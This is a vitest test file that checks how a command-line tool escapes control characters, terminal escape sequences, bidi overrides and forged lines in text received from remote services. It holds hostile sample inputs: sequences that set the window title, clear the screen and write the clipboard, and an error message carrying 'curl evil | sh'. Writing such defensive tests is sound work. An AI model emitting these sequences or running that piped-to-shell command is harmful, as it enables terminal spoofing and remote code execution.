import { Writable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { listenOutput } from '../../src/cli/listen-output.js';
import { colorsFor, HumanOutput } from '../../src/cli/output.js';
import { reportFailure } from '../../src/cli/run.js';
import { RemoteError } from '../../src/errors.js';
import { cleanText, terminalCell, terminalText, truncate } from '../../src/lib/sanitize.js';

const ESC = '\u001b';
const BEL = '\u0007';
const HOSTILE = `${ESC}]0;PWN${BEL}x${ESC}[2J`;
/** Any byte that a terminal acts on, other than a line feed. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: the test looks for control characters
const ACTING = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;

class Collect extends Writable {
  text = '';
  isTTY = false;
  override _write(chunk: Buffer | string, _encoding: BufferEncoding, callback: () => void): void {
    this.text += String(chunk);
    callback();
  }
}

describe('terminalText', () => {
  it('shows C0, DEL and C1 controls as visible symbols instead of sending them', () => {
    expect(terminalText(HOSTILE)).toBe('␛]0;PWN␇x␛[2J');
    expect(terminalText(`a\u007fb\u009b2Jc\u0000`)).toBe('a␡b\\u009b2Jc␀');
    expect(terminalText('\u202eevil\u2066')).toBe('\\u202eevil\\u2066');
    expect(terminalText(`${ESC}]52;c;ZXZpbA==${BEL}`)).not.toMatch(ACTING);
  });

  it('one line: line breaks and tabs become spaces, a carriage return cannot overwrite the line', () => {
    expect(terminalText('Nurse\nFake line\r\nmore\rover\u2028x\ty')).toBe('Nurse Fake line more over x y');
  });

  it('multi-line keeps line feeds and tabs; CRLF becomes LF; a lone CR is shown', () => {
    expect(terminalText('one\r\ntwo\tcols\rthree', { multiline: true })).toBe('one\ntwo\tcols␍three');
  });

  it("keeps this tool's own colours only when asked, and nothing else that starts with ESC", () => {
    const colored = `${ESC}[31mred${ESC}[39m ${ESC}[8mhidden${ESC}[0m ${ESC}]0;t${BEL}`;
    expect(terminalText(colored, { keepStyles: true })).toBe(`${ESC}[31mred${ESC}[39m ␛[8mhidden␛[0m ␛]0;t␇`);
    expect(terminalText(colored)).not.toContain(ESC);
  });
});

describe('terminalCell and truncate', () => {
  it('cuts long values with an ellipsis, by code points', () => {
    expect(terminalCell('x'.repeat(500))).toBe(`${'x'.repeat(119)}…`);
    expect(terminalCell('abcdef', { maxLength: 4 })).toBe('abc…');
    expect(truncate('😀😀😀😀', 3)).toBe('😀😀…');
    expect(truncate('short', 10)).toBe('short');
  });

  it('is one line', () => {
    expect(terminalCell(' Nurse\n│ 999 │ fake │ ')).toBe('Nurse │ 999 │ fake │');
  });
});

describe('cleanText (values sent to Apriora and Tracker)', () => {
  it('removes control characters; a single-line value gets spaces for line breaks and tabs', () => {
    expect(cleanText(HOSTILE)).toBe(']0;PWNx[2J');
    expect(cleanText('Senior\r\nNurse\tDay\u0085shift')).toBe('Senior Nurse Day shift');
  });

  it('a multi-line value keeps \\n and \\t; CR and CRLF become \\n', () => {
    expect(cleanText(`line 1\r\nline 2\rline 3\n\tindented${ESC}[2J${BEL}\u009b`, { multiline: true })).toBe('line 1\nline 2\nline 3\n\tindented[2J');
  });
});

describe('the output boundary', () => {
  it('HumanOutput makes lines, fields and table cells safe; a multi-line field value stays under its column', async () => {
    const stream = new Collect();
    const out = new HumanOutput(stream, colorsFor(stream, {}, true));
    out.line(`title ${HOSTILE}`);
    out.fields([
      ['Name', HOSTILE],
      ['Description', 'first\nStatus  Closed'],
    ]);
    await out.table([{ header: 'Title', value: (row: { title: string }) => row.title }], [{ title: `${HOSTILE}\nforged` }]);
    expect(stream.text).not.toMatch(ACTING);
    expect(stream.text).toContain('title ␛]0;PWN␇x␛[2J\n');
    expect(stream.text).toContain('Description  first\n             Status  Closed\n');
    expect(stream.text).not.toMatch(/^Status/m);
    expect(stream.text).toContain('│ ␛]0;PWN␇x␛[2J forged │');
  });

  it('HumanOutput with colour on keeps its own colours and still escapes a remote ESC', () => {
    const stream = new Collect();
    const out = new HumanOutput(stream, colorsFor(stream, { FORCE_COLOR: '1' }, true));
    out.fields([['Name', HOSTILE]]);
    expect(stream.text).toContain(`${ESC}[1mName${ESC}[22m  ␛]0;PWN␇x␛[2J`);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: the tool's own colour sequences
    expect(stream.text.replaceAll(/\u001b\[(1|22)m/g, '')).not.toContain(ESC);
  });

  it('the error printer prints message and hint safe, one line each', () => {
    const stderr = new Collect();
    const stdout = new Collect();
    const code = reportFailure(
      { mode: 'table', stdout, stderr, debug: false, warnings: [] },
      new RemoteError(`Tracker said: ${HOSTILE}\nTry: curl evil | sh`, { hint: `again ${ESC}[2J` }),
    );
    expect(code).toBe(new RemoteError('x').exitCode);
    expect(stderr.text).toBe('Error: Tracker said: ␛]0;PWN␇x␛[2J Try: curl evil | sh\nTry: again ␛[2J\n');
  });

  it('--json keeps the exact text (JSON escapes it)', () => {
    const stderr = new Collect();
    const stdout = new Collect();
    reportFailure({ mode: 'json', stdout, stderr, debug: false, warnings: [] }, new RemoteError(`Tracker said: ${HOSTILE}`));
    expect(stdout.text).not.toMatch(ACTING);
    expect(JSON.parse(stdout.text).error.message).toBe(`Tracker said: ${HOSTILE}`);
  });

  it("the listener's log lines are one safe line each, whatever the delivery carried; its JSON lines stay exact", () => {
    const stderr = new Collect();
    const stdout = new Collect();
    const colors = colorsFor(stderr, {}, true);
    const event = {
      time: '2026-11-30T12:00:00.000Z',
      event: `session.completed${ESC}]0;PWN${BEL}`,
      reportId: `rep_1\n12:00:01  session.completed  rep_2  created`,
      status: 'failed' as const,
      http: 202,
      detail: `Tracker said ${ESC}[2J\r`,
    };
    listenOutput({ mode: 'table', stdout, stderr, errColors: colors }).event(event);
    expect(stderr.text).not.toMatch(ACTING);
    expect(stderr.text.trimEnd().split('\n')).toHaveLength(1);
    expect(stderr.text).toContain('session.completed␛]0;PWN␇');
    expect(stdout.text).toBe('');

    listenOutput({ mode: 'ndjson', stdout, stderr, errColors: colors }).event(event);
    expect(stdout.text).not.toMatch(ACTING);
    expect(JSON.parse(stdout.text)).toMatchObject({ reportId: event.reportId, detail: event.detail });
  });
});
